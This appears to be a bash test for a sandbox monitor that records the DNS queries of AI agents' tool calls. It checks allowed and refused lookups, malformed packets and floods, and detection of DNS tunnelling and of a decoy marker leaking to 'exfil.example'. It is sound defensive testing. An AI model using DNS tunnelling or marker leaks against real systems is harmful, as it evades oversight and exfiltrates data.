#!/bin/bash
# DNS events: every query a tool call sends to the sandbox's DNS gate is a dns.query and every
# answer a dns.answer (name, type, id, transport, sizes; rcode, addresses, whether the gate
# refused the name), on the tool call's step and tool. Garbage sent to port 53 is a
# dns.malformed event and counted, not a crash. A tunnelling pattern (many long random labels
# under one domain) is a dns.tunnel verdict; the honest lookups before it raise none.
. "$(dirname "$0")/../lib.sh"
fb_setup

world_up
detectors_record_only
start_daemon --config "$FB_CONF"
create_sandbox dn1 "$FB_ROOT/tests/policies/egress-tools.json"
copy_in dn1 "$FB_ROOT/tests/attacks/dnsq.py"

q() { "$FB" exec dn1 --tool "$1" --step "$2" -- python3 /workspace/dnsq.py "${@:3}"; }
events() { "$FB" timeline dn1 --json >"$T/tl.jsonl" || fail "timeline"; }
# dns_marker: before a check of DNS events (or of their verdicts), proof that the monitor read and
# judged every DNS record of the sandbox before now, in place of a sleep: on a fresh step, a query
# for a name of its own (mSTEP.fb-marker.test: the gate answers NXDOMAIN), and a wait (5 s at
# most) for its dns.answer. The DNS hooks have one ring, read in order; the answer follows the query.
dns_marker() {
	local name
	FB_MARKER_STEP=$((FB_MARKER_STEP + 1))
	name=m$FB_MARKER_STEP.fb-marker.test
	q run_tests "$FB_MARKER_STEP" query "$name" A >/dev/null || fail "the DNS marker query $name"
	wait_for 5 has_event dn1 dns.answer step="$FB_MARKER_STEP" name="$name" ||
		fail "the monitor never recorded the DNS marker's answer ($name)"
}

# The C library's resolver, for an allowed name and a refused one.
assert_eq "$(q install_deps 901 getaddrinfo registry.test)" "198.51.100.7" "registry.test resolves"
assert_eq "$(q install_deps 902 getaddrinfo secret.example.com)" "gaierror -2" \
	"a name outside the policy does not"
assert_eq "$(q run_tests 903 getaddrinfo docs.test)" "198.51.100.7" \
	"docs.test resolves for a tool with no egress (DNS is open to every tool)"
# By hand: a TXT query (refused: the gate forwards only the allowed names' own answers), and an A
# query over TCP.
q run_tests 904 query registry.test TXT >"$T/txt" || fail "TXT query"
q install_deps 905 query registry.test A tcp >"$T/tcp" || fail "TCP query"
dns_marker
events
python3 - "$T/tl.jsonl" "$(cat "$T/txt")" "$(cat "$T/tcp")" <<'PY' || fail "DNS events"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
dns = [e for e in ev if e["kind"].startswith("dns.") and e["step"] < 90000]  # not the markers
for e in dns:
    assert e["sandbox"] == "dn1" and e["source"] == "ebpf", e
    assert e["step"] in (901, 902, 903, 904, 905), e
    assert e["tool"] == {901: "install_deps", 902: "install_deps", 903: "run_tests",
                         904: "run_tests", 905: "install_deps"}[e["step"]], e
def of(step, kind, **want):
    return [e["fields"] for e in dns if e["step"] == step and e["kind"] == kind
            and all(e["fields"].get(k) == v for k, v in want.items())]
q = of(901, "dns.query", name="registry.test", type="A", transport="udp")
assert q and q[0]["size"] > 12 and q[0]["server"].startswith("10."), q
assert [e for e in dns if e["step"] == 901 and e["kind"] == "dns.query"][0]["pid"] > 0
assert of(901, "dns.query", name="registry.test", type="AAAA"), "getaddrinfo asks for AAAA too"
assert of(901, "dns.answer", name="registry.test", type="AAAA", rcode="NOERROR", addrs=[])
a = of(901, "dns.answer", name="registry.test", type="A", rcode="NOERROR")
assert a and a[0]["addrs"] == ["198.51.100.7"] and a[0]["answers"] == 1 and not a[0]["refused"], a
assert a[0]["id"] == q[0]["id"], (a, q)
r = of(902, "dns.answer", name="secret.example.com", rcode="NXDOMAIN", refused=True)
assert r and r[0]["addrs"] == [], of(902, "dns.answer")
assert of(903, "dns.answer", name="docs.test", type="A", addrs=["198.51.100.7"])
qid, rcode = map(int, sys.argv[2].split())
assert of(904, "dns.query", name="registry.test", type="TXT", id=qid), of(904, "dns.query")
assert of(904, "dns.answer", name="registry.test", type="TXT", id=qid)
qid, rcode = map(int, sys.argv[3].split())
assert rcode == 0 and of(905, "dns.query", transport="tcp", id=qid), of(905, "dns.query")
assert of(905, "dns.answer", transport="tcp", id=qid, addrs=["198.51.100.7"]), of(905, "dns.answer")
assert not [e for e in ev if e["kind"] == "verdict"], "honest lookups raised a verdict"
print("   %d DNS events, each on its step and tool" % len(dns))
PY
ok "queries and answers, allowed and refused, UDP and TCP, A/AAAA and TXT: events on their step and tool"

# The timeline reads as what was asked and told.
"$FB" timeline dn1 >"$T/tl.txt" || fail "timeline"
grep -E "step 901 +install_deps +DNS A\? registry.test \(udp [0-9]+ bytes to 10\.[0-9.]+\) pid [0-9]+ \(python3[0-9.]*\)" "$T/tl.txt" >/dev/null &&
	grep -E "step 901 +install_deps +DNS A registry.test: NOERROR 198.51.100.7 \(udp" "$T/tl.txt" >/dev/null &&
	grep -E "step 902 .*DNS A secret.example.com: NXDOMAIN, refused by the gate" "$T/tl.txt" >/dev/null ||
	fail "the timeline's DNS lines: $(grep DNS "$T/tl.txt" | head -4)"
ok "the timeline says what was asked and told: $(grep -m1 'NXDOMAIN' "$T/tl.txt" | sed 's/^[^ ]* *//')"

# Garbage to port 53: counted and stored as dns.malformed, and the monitor lives on.
assert_eq "$(q run_tests 906 garbage)" "sent" "garbage sent"
dns_marker
events
"$FB" status --json >"$T/status.json" || fail "status"
python3 - "$T/tl.jsonl" "$T/status.json" <<'PY' || fail "malformed DNS"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
bad = [e for e in ev if e["kind"] == "dns.malformed" and e["step"] == 906]
assert len(bad) == 2 and all(e["tool"] == "run_tests" for e in bad), bad
assert {e["fields"]["error"] for e in bad} == {"shorter than a DNS header",
                                             "a compression pointer loops or points forward"}, bad
st = json.load(open(sys.argv[2]))["dns"]
assert st["malformed"] >= 2 and st["unattributed"] == 0 and st["lost"]["ring"] == 0, st
PY
ok "malformed DNS from inside is an event and counted; the monitor goes on"

# Tunnelling: 100 queries of random 50-character labels under one domain.
assert_eq "$(q run_tests 907 tunnel exfil.test 100)" "sent 100" "the tunnel's queries"
dns_marker
events
python3 - "$T/tl.jsonl" <<'PY' || fail "dns.tunnel verdict"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
qs = [e for e in ev if e["kind"] == "dns.query" and e["step"] == 907]
assert len(qs) == 100 and all(e["fields"]["longest_label"] == 50 for e in qs), len(qs)
v = [e for e in ev if e["kind"] == "verdict"]
assert v and all(e["fields"]["rule"] == "dns.tunnel" for e in v), v
assert v[0]["step"] == 907 and v[0]["tool"] == "run_tests" and v[0]["fields"]["severity"] == "high", v[0]
refused = [e for e in ev if e["kind"] == "dns.answer" and e["step"] == 907 and e["fields"]["refused"]]
assert len(refused) == 100, len(refused)
print("   verdict:", v[0]["fields"]["reason"])
PY
ok "a DNS tunnel is a dns.tunnel verdict (high) on its step and tool"

# Every datagram is accounted for: N sent as fast as they go are each a dns.malformed event of
# the step or counted lost in the kernel (the ring full while the reader is behind, or past the
# sandbox's share of it).
# flood STEP N MIN_LOST
flood() {
	"$FB" status --json >"$T/before.json" || fail "status"
	assert_eq "$(q run_tests "$1" flood "$2")" "sent $2" "the flood"
	dns_marker
	events
	"$FB" status --json >"$T/after.json" || fail "status"
	python3 - "$T/tl.jsonl" "$T/before.json" "$T/after.json" "$@" <<'PY' || fail "the flood's accounting"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
b, a = (json.load(open(f))["dns"] for f in sys.argv[2:4])
step, n, min_lost = map(int, sys.argv[4:7])
got = sum(1 for e in ev if e["kind"] == "dns.malformed" and e["step"] == step)
# Lost for want of room, or refused past the sandbox's share of the ring (dns_sandbox_rate).
lost = a["lost"]["ring"] - b["lost"]["ring"] + a["over_share"] - b["over_share"]
print("   %d events delivered, %d counted lost in the ring or past the share" % (got, lost))
assert got + lost == n and lost >= min_lost, (got, lost)
assert a["lost"]["load"] == 0 and a["unattributed"] == 0, a
PY
}
flood 908 5000 0
ok "a flood of 5,000 datagrams to port 53: delivered + counted lost = 5,000"
# A decoy's marker (docs/enforcer.md, "Lures") leaving as a name asked of DNS: exfiltration.
marker=$(state_field dn1 decoy_marker)
q run_tests 910 getaddrinfo "$marker.exfil.example" >/dev/null
dns_marker
events
python3 - "$T/tl.jsonl" <<'PY' || fail "the marker in a DNS name is not exfil.decoy-marker"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
byid = {e["id"]: e for e in ev}
v = [e for e in ev if e["kind"] == "verdict" and e["fields"]["rule"] == "exfil.decoy-marker"]
# The name is in the program's argv too (that is a verdict of its own); one is the query's.
q = [x for x in v if byid[x["fields"]["event_ids"][0]]["kind"] == "dns.query"]
assert q and q[0]["step"] == 910 and q[0]["tool"] == "run_tests", v
PY
ok "the decoys' marker in a DNS name is exfil.decoy-marker on its step and tool"
# Again with a ring of 4 KiB (six records), after a restart: the monitor watches the running
# sandbox's DNS again, and what the ring cannot hold is counted, exactly.
stop_daemon
printf 'dns_ring_size = 4096\n' >>"$FB_CONF"
start_daemon --config "$FB_CONF"
flood 909 5000 1
ok "the same through a 4 KiB ring after a restart: delivered + counted lost = 5,000, some lost"

check "destroy" "$FB" destroy dn1
assert_no_leftovers "after the DNS tests"
stop_daemon
